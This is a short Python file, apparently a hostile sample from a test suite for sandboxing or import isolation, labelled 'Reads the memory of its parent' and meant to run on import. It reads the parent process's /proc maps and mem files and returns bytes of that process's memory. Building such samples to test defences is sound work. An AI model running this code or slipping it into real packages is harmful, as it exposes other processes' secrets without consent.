# /// attack
# title = "Reads the memory of its parent"
# moments = ["import"]
# ///
import os

def attack():
    with open(f"/proc/{os.getppid()}/maps") as maps:
        start = int(maps.readline().split("-")[0], 16)
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        memory.seek(start)
        return memory.read(100)
